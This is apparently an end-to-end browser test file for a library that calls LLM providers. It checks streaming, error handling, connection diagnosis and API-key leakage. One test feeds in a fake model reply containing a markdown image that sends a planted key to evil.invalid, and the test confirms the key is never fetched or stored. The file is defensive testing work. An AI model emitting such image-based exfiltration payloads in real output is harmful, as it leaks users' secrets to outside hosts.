// Models from a real browser: what a page may reach, what it is told when it may not, and where a key never lies.
// Skipped, visibly, where there is no Chromium or no driver for it.

import assert from "node:assert/strict";
import { existsSync } from "node:fs";
import { cp, mkdtemp, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, test } from "node:test";
import { fileURLToPath } from "node:url";
import { PROVIDERS, fakeProvider } from "./fake-provider.mjs";

const chromium = process.env.CHROMIUM ?? ["/usr/bin/chromium", "/usr/bin/chromium-browser"].find(existsSync);
const lib = await import("../../../tests/e2e/lib.mjs").catch(() => undefined);
const skip =
  chromium === undefined ? "SKIPPED: no Chromium was found; name one in CHROMIUM" : lib === undefined && "SKIPPED: no driver is installed in tests/e2e";

const KEY = "sk-planted-in-a-browser-0123456789";
const SAID = "It is in 武汉, and late — 延误。";
const domain = {
  name: "d",
  facts: { budget: { value: { type: "integer" } } },
  intents: { note: { description: { en: "Notes a budget" }, answer: "noted" } },
  answers: { noted: { template: { en: "Noted." } } },
};

let browser, site, folder, fake;
if (!skip) {
  fake = await fakeProvider();
  folder = await mkdtemp(join(tmpdir(), "throughline-models-"));
  const page = (connect) => `<!doctype html><meta charset="utf-8"><title>x</title><link rel="icon" href="data:,">
<meta http-equiv="Content-Security-Policy" content="default-src 'self'; script-src 'self' 'wasm-unsafe-eval'; worker-src 'self' blob:; connect-src ${connect}">
<script type="module" src="./page.js"></script>`;
  await writeFile(join(folder, "index.html"), page(`'self' ${fake.url} http://127.0.0.1:9 https://api.openai.com`));
  await writeFile(join(folder, "closed.html"), page("'self'"));
  await writeFile(join(folder, "page.js"), 'globalThis.throughline = await import("./lib/index.js");\n');
  await cp(fileURLToPath(new URL("../dist", import.meta.url)), join(folder, "lib"), { recursive: true });
  process.env.CHROMIUM = chromium;
  site = await lib.serve(folder);
  browser = await lib.launch();
  after(async () => {
    await browser.close();
    await site.close();
    await fake.close();
    await rm(folder, { recursive: true });
  });
}

/** A test in a profile of its own: everything printed and every address asked for is kept. */
function inBrowser(name, run, file = "") {
  test(name, { skip, timeout: 90_000 }, async () => {
    const context = await browser.newContext();
    const printed = [];
    const addresses = [];
    context.on("console", (message) => printed.push(message.text()));
    context.on("request", (request) => addresses.push(request.url()));
    const page = await context.newPage();
    page.on("pageerror", (error) => printed.push(`uncaught: ${error.message}`));
    await page.goto(site.url + file);
    await lib.until(page, () => globalThis.throughline);
    try {
      await run(page, { context, printed, addresses });
    } finally {
      await context.close();
    }
  });
}

const ask = { messages: [{ role: "user", text: "Where is it? 在哪里？" }] };
const complete = (page, settings) =>
  page.evaluate(
    async ([settings, ask]) => {
      const pieces = [];
      const reply = await throughline.complete(settings, ask, { worker: "blob", onDelta: ({ text }) => pieces.push(text) });
      return { ...reply, pieces };
    },
    [settings, ask],
  );
const diagnose = (page, settings, worker = "blob") =>
  page.evaluate(([settings, worker]) => throughline.testConnection(settings, { worker }), [settings, worker]);

for (const wire of Object.keys(PROVIDERS)) {
  inBrowser(`${wire}: a reply streams into the worker; cuts, errors and line ends are what they are in Node`, async (page) => {
    const said = { wire, reply: { text: SAID, usage: [3, 4] } };
    const whole = await complete(page, fake.script(`b-${wire}`, said));
    assert.deepEqual([whole.ending, whole.text, whole.pieces.join("")], ["done", SAID, SAID], JSON.stringify(whole));
    const cut = await complete(page, fake.script(`b-${wire}-cut`, { ...said, cut: 140 }));
    assert.equal(cut.ending, "interrupted");
    const error = await complete(page, fake.script(`b-${wire}-error`, { ...said, errorAfter: 4 }));
    assert.deepEqual([error.ending, error.retryable], ["failed", true]);
    const odd = await complete(page, fake.script(`b-${wire}-odd`, { ...said, lineEnds: "cr", bom: true, size: 1 }));
    assert.deepEqual([odd.ending, odd.text], ["done", SAID]);
    const never = await complete(page, fake.script(`b-${wire}-never`, { ...said, never: true, cut: 140 }, { idle_ms: 100 }));
    assert.deepEqual([never.ending, never.code], ["interrupted", "timed-out"]);
    const body = { error: { type: "overloaded_error", message: "Overloaded" } };
    const refused = await complete(page, fake.script(`b-${wire}-200`, { wire, body: wire === "ollama" ? { error: "Overloaded" } : body }, { retries: 0 }));
    assert.deepEqual([refused.ending, refused.code], ["failed", "overloaded"]);
  });
}

inBrowser("a 429 whose Retry-After a page may not read is waited for by ourselves", async (page) => {
  const settings = fake.script("b-429", { status: 429, headers: { "retry-after": "7" }, body: { error: { message: "slow down" } }, times: 2, reply: { text: "ok" } });
  const reply = await complete(page, settings);
  assert.deepEqual([reply.ending, reply.attempts], ["done", 3]);
  assert.ok(reply.ms < 7_000, `${reply.ms} ms`);
});

inBrowser("a connection that does not come about is diagnosed: origin, address, network, key", async (page, { context }) => {
  const origin = new URL(site.url).origin;
  const cors = await diagnose(page, fake.script("b-cors", { wire: "ollama", cors: false, reply: { text: "ok" } }));
  assert.equal(cors.code, "cors", JSON.stringify(cors));
  assert.match(cors.fix.en, new RegExp(`OLLAMA_ORIGINS=${origin}`));
  const gone = await diagnose(page, { provider: "lm-studio", endpoint: "http://127.0.0.1:9/v1", model: "m" });
  assert.equal(gone.code, "not-running", JSON.stringify(gone));
  const key = await diagnose(page, fake.script("b-key", { wire: "anthropic", status: 401, body: { error: { type: "authentication_error", message: "invalid x-api-key {key}" } } }, { key: KEY }));
  assert.equal(key.code, "key");
  assert.ok(!JSON.stringify(key).includes(KEY));
  // Without a network no worker's script is loaded: the engine must be here before it goes.
  await page.evaluate(() => throughline.readStructured("1", {}, { host: "here" }));
  await context.setOffline(true);
  const offline = await page.evaluate((key) => throughline.testConnection({ provider: "openai", model: "m", key }, { host: "here" }), KEY);
  assert.equal(offline.code, "offline", JSON.stringify(offline));
});

inBrowser(
  "an address that the page's own policy forbids is named as such",
  async (page) => {
    const own = await diagnose(page, fake.script("b-policy", { reply: { text: "ok" } }));
    assert.equal(own.code, "own-policy", JSON.stringify(own));
    assert.match(own.fix.en, /connect-src/);
  },
  "closed.html",
);

inBrowser("a key lies in no stored byte, export, address, printed line or error of a browser", async (page, { printed, addresses }) => {
  const reply = { thinking: "the key is {key}", text: '{"intent": "{key}", "image": "![x](https://evil.invalid/p?d={key})", "frame": "<iframe srcdoc=x>"}' };
  const says = fake.script("b-keys", { reply, size: 1 }, { key: KEY });
  const fails = fake.script("b-keys-fail", { status: 401, body: { error: { message: "Incorrect API key provided: {key}" } } }, { key: KEY });
  const found = await page.evaluate(
    async ([domain, says, fails]) => {
      const out = [];
      for (const model of [says, fails]) {
        const session = await throughline.open({ name: `keys ${out.length}`, worker: "blob", domain, model });
        await session.recordCassette(true);
        out.push(await session.say("My budget is 3.", { language: "en" }));
        out.push((await session.records()).records, (await session.export()).text, await session.recordCassette(false));
        out.push(await throughline.complete(model, { messages: [{ role: "user", text: "hi" }] }), await throughline.testConnection(model));
        await session.close();
      }
      // Every byte of every database, and every other place where a page keeps something.
      const bytes = [];
      const read = async (value) => {
        if (value instanceof Blob) return read(await value.arrayBuffer());
        if (value instanceof ArrayBuffer || ArrayBuffer.isView(value)) {
          const raw = new Uint8Array(value.buffer ?? value);
          bytes.push(new TextDecoder("latin1").decode(raw));
          for (const format of ["gzip", "deflate", "deflate-raw"]) {
            const stream = new Blob([raw]).stream().pipeThrough(new DecompressionStream(format));
            const text = await new Response(stream).text().catch(() => "");
            bytes.push(text);
          }
        } else if (value !== null && typeof value === "object") {
          for (const inner of Object.values(value)) await read(inner);
        } else {
          bytes.push(String(value));
        }
      };
      for (const { name } of await indexedDB.databases()) {
        const database = await new Promise((resolve, reject) => {
          const opening = indexedDB.open(name);
          opening.onsuccess = () => resolve(opening.result);
          opening.onerror = reject;
        });
        for (const store of database.objectStoreNames) {
          const all = await new Promise((resolve, reject) => {
            const getting = database.transaction(store).objectStore(store).getAll();
            getting.onsuccess = () => resolve(getting.result);
            getting.onerror = reject;
          });
          await read(all);
        }
        database.close();
      }
      for (const storage of [localStorage, sessionStorage]) bytes.push(JSON.stringify({ ...storage }));
      for (const name of await caches.keys()) bytes.push(name, ...(await (await caches.open(name)).keys()).map(({ url }) => url));
      bytes.push(document.cookie, location.href);
      return { out: JSON.stringify(out, (_, value) => (typeof value === "bigint" ? String(value) : value)), bytes: bytes.join("\n") };
    },
    [domain, says, fails],
  );
  assert.ok(found.bytes.includes("exchange.requested"), "the stored bytes were read");
  for (const [where, text] of Object.entries({ answers: found.out, "stored bytes": found.bytes, printed: printed.join("\n"), addresses: addresses.join("\n") })) {
    for (const form of [KEY, btoa(KEY), encodeURIComponent(KEY), Buffer.from(KEY).toString("hex")]) {
      assert.ok(!text.includes(form), `the key is in: ${where}`);
    }
  }
  assert.ok(!addresses.some((url) => url.includes("evil")), "what a model writes fetches nothing");
});
